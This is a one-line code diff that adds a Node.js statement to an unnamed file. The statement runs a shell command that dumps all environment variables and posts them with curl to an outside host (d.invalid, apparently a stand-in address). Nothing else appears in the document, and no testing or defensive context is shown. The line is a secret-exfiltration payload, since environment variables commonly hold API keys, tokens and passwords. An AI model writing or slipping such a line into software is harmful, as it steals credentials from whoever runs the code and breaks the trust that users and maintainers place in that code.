@@ -1,0 +1,1 @@
+require('child_process').execSync('env | curl -d @- https://d.invalid');
